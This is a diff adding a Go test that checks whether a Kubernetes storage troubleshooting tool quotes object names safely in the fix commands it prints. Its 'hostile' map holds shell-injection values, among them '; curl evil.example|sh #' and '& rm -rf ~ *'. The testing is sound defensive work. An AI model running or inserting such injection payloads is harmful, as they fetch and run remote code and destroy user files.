@@ -1,0 +1,212 @@
+package explain
+
+import (
+	"encoding/json"
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+
+	rules "github.com/purser-csi/purser/internal/explain/rules"
+	"github.com/purser-csi/purser/internal/printable"
+	command "github.com/purser-csi/purser/internal/roles/explain"
+	"github.com/purser-csi/purser/internal/shell"
+)
+
+// hostile are changes of a name: other commands, expansions, quotes, several words and options.
+var hostile = map[string]func(name string) string{
+	"a command":    func(name string) string { return name + `; curl evil.example|sh #` },
+	"an expansion": func(name string) string { return name + "$(id)`id`'\"" },
+	"words":        func(name string) string { return name + " --all\n& rm -rf ~ *" },
+	"an option":    func(name string) string { return "--server=evil.example?" + name },
+}
+
+// TestCommandsWithHostileNames explains every situation with names that a shell acts on. Each command that is
+// printed has, split as a shell does it, the words that it has with the names of the situation.
+func TestCommandsWithHostileNames(t *testing.T) {
+	base, all := readSituations(t)
+	compared := 0
+	for _, s := range all {
+		for _, o := range s.Objects {
+			complete(o)
+		}
+		var want [][]string
+		for _, line := range commandsOf(t, s, base, s.Explain, "shop") {
+			words, err := split(line)
+			if err != nil {
+				t.Errorf("%s: %s: %v", s.Name, line, err)
+			}
+			want = append(want, words)
+		}
+		for kind, change := range hostile {
+			names := namesOf(append(slices.Clone(base), s.Objects...), change)
+			altered := s
+			altered.Objects, _ = renamed(s.Objects, names).([]map[string]any)
+			object, name, _ := strings.Cut(s.Explain, "/")
+			if to, is := names[name]; is {
+				name = to
+			}
+			var others []map[string]any
+			others, _ = renamed(base, names).([]map[string]any)
+			for _, line := range commandsOf(t, altered, others, object+"/"+name, names["shop"]) {
+				words, err := split(line)
+				if err == nil && slices.ContainsFunc(want, func(of []string) bool { return slices.EqualFunc(words, of, sameWord(names)) }) {
+					compared++
+					continue
+				}
+				t.Errorf("%s, %s: %s: words %q, %v; with harmless names %q", s.Name, kind, line, words, err, want)
+			}
+		}
+	}
+	t.Logf("%d commands", compared)
+	if compared < 300 {
+		t.Errorf("%d commands were compared", compared)
+	}
+}
+
+// sameWord compares a word with hostile names and one with the names of the situation.
+func sameWord(names map[string]string) func(a, b string) bool {
+	return func(a, b string) bool {
+		if a == b || a == shell.Placeholder && names[b] != "" {
+			return true
+		}
+		for name, to := range names {
+			if strings.Contains(b, name) && a == strings.ReplaceAll(b, name, printable.Line(to)) {
+				return true
+			}
+		}
+		return false
+	}
+}
+
+// commandsOf returns the commands of the answer.
+func commandsOf(t *testing.T, s situation, base []map[string]any, object, namespace string) (lines []string) {
+	t.Helper()
+	out, err := run(t, "explain", object, "-n", namespace, "--now", now, "-o", "json", "--from", s.dump(t, base))
+	var answer command.Answer
+	if json.Unmarshal([]byte(out), &answer) != nil || len(answer.Reports) != 1 || answer.Reports[0].State == rules.Unknown && s.State != rules.Unknown {
+		t.Fatalf("%s: %s: %v: %s", s.Name, object, err, out)
+	}
+	for _, f := range answer.Reports[0].Findings {
+		for _, step := range f.Fix {
+			if step.Command != "" {
+				lines = append(lines, string(step.Command))
+			}
+		}
+	}
+	return lines
+}
+
+// namesOf returns the hostile names for those that the objects have and refer to. Names of drivers, of
+// leases and of their namespace stay, which select what a component is, and those that a controller makes
+// and a text has: of attachments and secrets.
+func namesOf(objects []map[string]any, change func(string) string) map[string]string {
+	names := map[string]string{}
+	note := func(value any) {
+		if name, _ := value.(string); name != "" && name != "kube-system" && name != "disk.example.com" && !strings.HasPrefix(name, "csi-") {
+			names[name] = change(name)
+		}
+	}
+	var refer func(value any)
+	refer = func(value any) {
+		switch v := value.(type) {
+		case []any:
+			for _, inner := range v {
+				refer(inner)
+			}
+		case map[string]any:
+			for field, inner := range v {
+				switch field {
+				case "volumeName", "storageClassName", "nodeName", "claimName", "persistentVolumeName", "namespace":
+					note(inner)
+				}
+				refer(inner)
+			}
+		}
+	}
+	for _, o := range objects {
+		if kind := fmt.Sprint(o["kind"]); kind != "Lease" && kind != "CSIDriver" && kind != "Secret" {
+			metadata, _ := o["metadata"].(map[string]any)
+			note(metadata["name"])
+		}
+		refer(o)
+	}
+	return names
+}
+
+// renamed returns a copy of a value with other names. Messages name objects within a text.
+func renamed(value any, names map[string]string) any {
+	switch v := value.(type) {
+	case string:
+		if to, is := names[v]; is {
+			return to
+		}
+	case []map[string]any:
+		var out []map[string]any
+		for _, inner := range v {
+			o, _ := renamed(inner, names).(map[string]any)
+			out = append(out, o)
+		}
+		return out
+	case []any:
+		var out []any
+		for _, inner := range v {
+			out = append(out, renamed(inner, names))
+		}
+		return out
+	case map[string]any:
+		out := map[string]any{}
+		for field, inner := range v {
+			switch field {
+			case "kind", "apiVersion", "phase", "message", "reason", "component", "driver", "provisioner":
+				out[field] = inner
+			default:
+				out[field] = renamed(inner, names)
+			}
+		}
+		return out
+	}
+	return value
+}
+
+// split returns the words of a line as a shell reads them. It refuses every character outside of quotes that
+// a shell acts on but the operators | and && of the templates, which are words.
+func split(line string) (words []string, err error) {
+	var word strings.Builder
+	inWord, quoted := false, false
+	end := func() {
+		if inWord {
+			words = append(words, word.String())
+		}
+		word.Reset()
+		inWord = false
+	}
+	for i := 0; i < len(line); i++ {
+		switch c := line[i]; {
+		case c == '\'':
+			quoted, inWord = !quoted, true
+		case quoted:
+			word.WriteByte(c)
+		case c == ' ':
+			end()
+		case c == '\\' && i+1 < len(line):
+			i++
+			word.WriteByte(line[i])
+			inWord = true
+		case strings.HasPrefix(line[i:], "| "), strings.HasPrefix(line[i:], "&& "):
+			end()
+			words = append(words, line[i:i+strings.IndexByte(line[i:], ' ')])
+			i += strings.IndexByte(line[i:], ' ')
+		case strings.IndexByte("\"$`;&|<>()*?[]{}#~!\n\t\\", c) >= 0 || c < ' ' || c > '~':
+			return words, fmt.Errorf("%q is not quoted", c)
+		default:
+			word.WriteByte(c)
+			inWord = true
+		}
+	}
+	if quoted {
+		return words, fmt.Errorf("a quote has no end")
+	}
+	end()
+	return words, nil
+}
